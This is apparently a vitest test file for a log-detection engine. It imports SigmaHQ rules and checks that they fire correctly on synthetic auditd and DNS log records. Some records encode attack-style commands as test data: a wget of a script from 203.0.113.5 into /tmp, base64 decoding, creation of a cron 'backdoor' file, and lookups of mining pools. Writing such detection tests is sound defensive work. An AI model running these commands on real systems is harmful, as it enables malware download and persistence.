import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type ImportResult, importSigma } from '../src/cli/import-sigma';
import { loadPack } from '../src/cli/load-pack';
import type { SubscriptionPayload } from '../src/decode/cloudwatch';
import { SkipLedger } from '../src/decode/skips';
import { generateDemo } from '../src/demo/generate';
import { Detector } from '../src/engine/detector';
import { MemoryStateStore } from '../src/engine/memory-store';
import { normalizePayload } from '../src/engine/pipeline';
import { Normalizer } from '../src/parse/normalize';
import { runDetectionRuleTests } from '../src/rules/rule-tests';
import { findNearMiss, findWitness } from '../src/rules/witness';
import { CoreFields, type NormalizedEvent } from '../src/schema/event';
import { DEFAULT_SIGMA_MAPPING } from '../src/sigma/default-mapping';
import { decideAll, linesPayload, REALWORLD_LOGS } from './helpers';

/**
 * The public SigmaHQ rule folders (../shared/realworld/sigma, DRL 1.1; read here, never copied
 * into the repository): how much converts, and that everything written validates and passes
 * its generated tests.
 */
const SIGMA = resolve(__dirname, '../../shared/realworld/sigma/rules');
const LOGS = REALWORLD_LOGS;
const present = existsSync(SIGMA);
if (!present) console.warn(`SigmaHQ rules not found at ${SIGMA}: these tests are skipped (see ../shared/realworld/README.md)`);

const FOLDERS: [folder: string, atLeast: number][] = [
  ['linux', 185],
  ['web', 38],
  ['cloud/aws', 54],
];

describe.skipIf(!present)('Sigma import over the SigmaHQ folders', () => {
  it.each(FOLDERS)(
    '%s: at least %i rules convert, validate and pass their generated tests',
    async (folder, atLeast) => {
      const out = mkdtempSync(join(tmpdir(), 'sigmahq-'));
      const result: ImportResult = await importSigma([join(SIGMA, folder)], out, DEFAULT_SIGMA_MAPPING, { withTests: true });
      expect(result.written.length).toBeGreaterThanOrEqual(atLeast);
      // Everything skipped says why; nothing written fails the validator (ReDoS check included).
      for (const s of result.skipped) expect(s.reason.length, s.file).toBeGreaterThan(10);
      const { pack, errors } = loadPack(['rules', out], { checkRegexes: true });
      expect(errors).toEqual([]);
      const imported = pack.rules.filter((r) => r.id.startsWith('sigma.'));
      expect(imported).toHaveLength(result.written.length);
      // Generated tests exist for nearly every rule (regex conditions need hand-written ones) and pass.
      expect(result.untested.length).toBeLessThanOrEqual(Math.ceil(result.written.length * 0.05));
      for (const rule of imported) {
        const failed = (await runDetectionRuleTests(rule, pack)).filter((r) => !r.passed);
        expect(failed, rule.id).toEqual([]);
      }
    },
    120_000,
  );
});

/** A real log file as CloudWatch payloads of 500 lines (one stream, times from the lines). */
function logPayloads(file: string, logGroup: string): SubscriptionPayload[] {
  const lines = readFileSync(join(LOGS, file), 'utf8').split('\n').filter(Boolean);
  const payloads: SubscriptionPayload[] = [];
  for (let i = 0; i < lines.length; i += 500)
    payloads.push({
      messageType: 'DATA_MESSAGE',
      owner: '111122223333',
      logGroup,
      logStream: file,
      subscriptionFilters: [],
      logEvents: lines
        .slice(i, i + 500)
        .map((message, j) => ({ id: `${file}-${i + j}`, timestamp: Date.parse('2025-03-03T00:00:00Z'), message })),
    });
  return payloads;
}

describe.skipIf(!present || !existsSync(join(LOGS, 'apache_access_10k.log')))('the rule index with real Sigma rules', () => {
  it('gives nearly every imported rule a key, and decides exactly what the plain evaluator decides on the demo and real logs', async () => {
    const out = mkdtempSync(join(tmpdir(), 'sigmahq-'));
    await importSigma(
      FOLDERS.map(([folder]) => join(SIGMA, folder)),
      out,
      DEFAULT_SIGMA_MAPPING,
      { withTests: false },
    );
    const { pack } = loadPack(['rules', out], { checkRegexes: false });
    const imported = pack.rules.filter((r) => r.id.startsWith('sigma.'));
    expect(imported.length).toBeGreaterThan(150);
    // Real Sigma rules lean on `any`, wildcards and a weak `GET` next to their attack strings: a rule without a key runs on every event.
    const unkeyed = new Detector({ rules: imported }, new MemoryStateStore()).ruleSet.rules.filter((r) => !r.indexKeys);
    expect(unkeyed.map((r) => r.rule.id).length).toBeLessThanOrEqual(2);

    const normalizer = new Normalizer(pack.sources);
    const payloads = [
      ...generateDemo().payloads,
      ...logPayloads('apache_access_10k.log', '/sentinel-demo/web/nginx'),
      ...logPayloads('OpenSSH_2k.log', '/sentinel-demo/bastion/sshd'),
      ...logPayloads('Linux_2k.log', '/var/log/messages'),
    ];
    // Per rule, an event its selection matches and a near miss (found from the selection alone, not
    // through the detector): the index must hand each to exactly the rules the plain evaluator finds.
    const byIndex = new Detector({ rules: pack.rules }, new MemoryStateStore());
    const byPlain = new Detector({ rules: pack.rules }, new MemoryStateStore(), { plainMatching: true });
    const matchedIds = (d: Detector, events: NormalizedEvent[]) =>
      [...d.matchAll(events)].map(([r, list]) => `${r.rule.id}:${list.length}`).sort();
    let witnessed = 0;
    for (const rule of imported) {
      const witness = findWitness(rule.match);
      if (!witness.ok) continue;
      witnessed++;
      const nearMiss = findNearMiss(rule.match, witness.event);
      // In a log group the rule reads (imported rules name their logsource's groups).
      const logGroup = (rule.logGroups?.[0] ?? '/any').replaceAll('*', 'x');
      const events = [witness.event, ...(nearMiss.ok ? [nearMiss.event] : [])].map((e) => ({ ...e, [CoreFields.logGroup]: logGroup }));
      expect(matchedIds(byPlain, [events[0] ?? {}]), `${rule.id} matches its witness`).toContain(`${rule.id}:1`);
      for (const e of events) expect(matchedIds(byIndex, [e]), rule.id).toEqual(matchedIds(byPlain, [e]));
    }
    expect(witnessed).toBeGreaterThan(imported.length * 0.9);

    // Behind the line gate compiled from the same rules (a lost line would change what they decide).
    const indexed = await decideAll(pack.rules, payloads, normalizer, false, pack.sources);
    const plain = await decideAll(pack.rules, payloads, normalizer, true);
    expect(indexed.matched).toBeGreaterThan(1000);
    // The gate compiled from rules nobody here wrote left real lines, and none that changed a decision.
    expect(indexed.gated).toBeGreaterThan(500);
    expect(indexed.matched).toBe(plain.matched);
    expect(indexed.messages).toEqual(plain.messages);
    expect([indexed.reads, indexed.writes]).toEqual([plain.reads, plain.writes]);
  }, 180_000);
});

/**
 * One program started, as auditd logs it with an execve rule: SYSCALL, EXECVE (arguments holding
 * a space or a quote hex-encoded, as auditd writes them), CWD, two PATH records, PROCTITLE, EOE.
 */
function auditExec(serial: number, exe: string, argv: string[], cwd = '/home/alice'): string[] {
  const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
  const arg = (a: string) => (/[\s"']/.test(a) ? hex(a) : `"${a}"`);
  const msg = `msg=audit(1740971560.${String(serial % 1000).padStart(3, '0')}:${serial}):`;
  return [
    `type=SYSCALL ${msg} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c6c0a2a0 a1=55d0c6c0a2f0 a2=55d0c6c0a310 a3=0 items=2 ppid=2210 pid=${serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${argv[0]}" exe="${exe}" subj=unconfined key="exec"`,
    `type=EXECVE ${msg} argc=${argv.length} ${argv.map((a, i) => `a${i}=${arg(a)}`).join(' ')}`,
    `type=CWD ${msg} cwd="${cwd}"`,
    `type=PATH ${msg} item=0 name="${exe}" inode=1234 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PATH ${msg} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=5678 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PROCTITLE ${msg} proctitle=${hex(argv.join('\u0000'))}`,
    `type=EOE ${msg}`,
  ];
}

/** A file created by a program, as an audit watch logs it: SYSCALL (openat), CWD, the parent's and the new file's PATH records. */
function auditCreate(serial: number, exe: string, path: string): string[] {
  const msg = `msg=audit(1740971561.${String(serial % 1000).padStart(3, '0')}:${serial}):`;
  const dir = path.slice(0, path.lastIndexOf('/') + 1);
  const comm = exe.slice(exe.lastIndexOf('/') + 1);
  return [
    `type=SYSCALL ${msg} arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd5c1b2e10 a2=941 a3=1b6 items=2 ppid=2210 pid=${serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${comm}" exe="${exe}" subj=unconfined key="watch"`,
    `type=CWD ${msg} cwd="/root"`,
    `type=PATH ${msg} item=0 name="${dir}" inode=100 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PATH ${msg} item=1 name="${path}" inode=101 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PROCTITLE ${msg} proctitle=746F756368`,
    `type=EOE ${msg}`,
  ];
}

/**
 * A SigmaHQ folder converted without generated tests and loaded beside the shipped pack: what was
 * skipped, and the imported rules' titles by id, a detector of them and a normalizer of the pack.
 */
async function importedFolder(folder: string) {
  const out = mkdtempSync(join(tmpdir(), 'sigmahq-'));
  const result = await importSigma([join(SIGMA, folder)], out, DEFAULT_SIGMA_MAPPING, { withTests: false });
  const { pack, errors } = loadPack(['rules', out], { checkRegexes: true });
  expect(errors).toEqual([]);
  const rules = pack.rules.filter((r) => r.id.startsWith('sigma.'));
  return {
    result,
    titles: new Map(rules.map((r) => [r.id, r.title])),
    detector: new Detector({ rules }, new MemoryStateStore()),
    normalizer: new Normalizer(pack.sources),
  };
}

describe.skipIf(!present)('real Sigma file-creation rules on the Linux audit log', () => {
  it('convert, and fire once per file created', async () => {
    const { result, detector, normalizer } = await importedFolder('linux/file_event');
    expect(result.skipped).toEqual([]);
    const fired = (lines: string[]) => {
      const events = normalizePayload(linesPayload('/var/log/audit/audit.log', lines), normalizer, new SkipLedger());
      return new Map([...detector.matchAll(events)].map(([rule, matched]) => [rule.rule.title, matched.map((e) => e['auditd.nametype'])]));
    };
    expect(fired(auditCreate(4301, '/usr/bin/touch', '/etc/cron.d/backdoor')).get('New Cron File Created')).toEqual(['CREATE']);
    expect(fired(auditCreate(4302, '/usr/bin/wget', '/tmp/x.sh')).get('Wget Creating Files in Tmp Directory')).toEqual(['CREATE']);
    // The same file written by the package manager is the rule's filter; a file in the home directory is nothing.
    expect([...fired(auditCreate(4303, '/usr/bin/dpkg', '/etc/cron.daily/dpkg')).keys()]).toEqual([]);
    expect([...fired(auditCreate(4304, '/usr/bin/vim', '/home/alice/notes.txt')).keys()]).toEqual([]);
  });
});

describe.skipIf(!present)('real Sigma process-creation rules on the Linux audit log', () => {
  it('convert unless they name what auditd does not record, and fire once per program started', async () => {
    const { result, titles, detector, normalizer } = await importedFolder('linux/process_creation');
    // auditd records the parent's id, not its image or command line, and users by id.
    for (const s of result.skipped) expect(s.reason, s.file).toMatch(/no mapping for field '(ParentImage|ParentCommandLine|User|LogonId)'/);
    expect(result.written.length).toBeGreaterThanOrEqual(105);
    const fired = (lines: string[]) => {
      const events = normalizePayload(linesPayload('/var/log/audit/audit.log', lines), normalizer, new SkipLedger());
      const found = new Map<string, NormalizedEvent[]>();
      for (const [rule, matched] of detector.matchAll(events)) found.set(titles.get(rule.rule.id) ?? rule.rule.id, matched);
      return found;
    };
    const attacks: [string[], string][] = [
      [
        auditExec(4242, '/usr/bin/wget', ['wget', '-O', '/tmp/x.sh', 'http://203.0.113.5/x.sh']),
        'Download File To Potentially Suspicious Directory Via Wget',
      ],
      [auditExec(4243, '/usr/bin/base64', ['base64', '-d', '/tmp/p.b64']), 'Decode Base64 Encoded Text'],
      [auditExec(4244, '/usr/sbin/userdel', ['userdel', 'bob']), 'User Has Been Deleted Via Userdel'],
    ];
    for (const [lines, title] of attacks) {
      const found = fired(lines);
      // One detection per program started: the EXECVE record, not each of its seven records.
      expect(
        found.get(title)?.map((e) => e['auditd.type']),
        title,
      ).toEqual(['EXECVE']);
    }
    // Ordinary work fires none of them.
    const benign = [
      ...auditExec(5001, '/usr/bin/ls', ['ls', '-la', '/home/alice']),
      ...auditExec(5002, '/usr/bin/git', ['git', 'commit', '-m', 'fix the "login" page']),
      ...auditExec(5003, '/usr/bin/python3.11', ['python3', 'manage.py', 'migrate']),
    ];
    expect([...fired(benign).keys()]).toEqual([]);
  });
});

describe.skipIf(!present)('real Sigma network-connection rules on Route 53 Resolver query logs', () => {
  it('those naming only the host convert and fire on the lookup, in any case and any log group; those naming the program or port say why they cannot', async () => {
    const { result, detector, normalizer } = await importedFolder('linux/network_connection');
    for (const s of result.skipped) expect(s.reason, s.file).toMatch(/no mapping for field '(Image|Initiated)'/);
    expect(result.written.length).toBeGreaterThanOrEqual(2);
    const lookup = (name: string) =>
      JSON.stringify({
        version: '1.100000',
        account_id: '111122223333',
        region: 'us-east-1',
        vpc_id: 'vpc-0a1b2c3d',
        query_timestamp: '2026-03-03T03:12:00Z',
        query_name: `${name}.`,
        query_type: 'A',
        query_class: 'IN',
        rcode: 'NOERROR',
        answers: [],
        srcaddr: '10.0.2.7',
        srcport: '40000',
        transport: 'UDP',
        srcids: { instance: 'i-0123456789abcdef0' },
      });
    const fired = (name: string) => {
      const events = normalizePayload(linesPayload('/my/vpc/dns-queries', [lookup(name)]), normalizer, new SkipLedger());
      return [...detector.matchAll(events).keys()].map((r) => r.rule.title).sort();
    };
    expect(fired('pool.supportxmr.com')).toEqual(['Linux Crypto Mining Pool Connections']);
    expect(fired('XMR-EU1.NanoPool.ORG')).toEqual(['Linux Crypto Mining Pool Connections']);
    expect(fired('tunnel.us.ngrok.com')).toEqual(['Communication To Ngrok Tunneling Service - Linux']);
    expect(fired('api.github.com')).toEqual([]);
  });
});
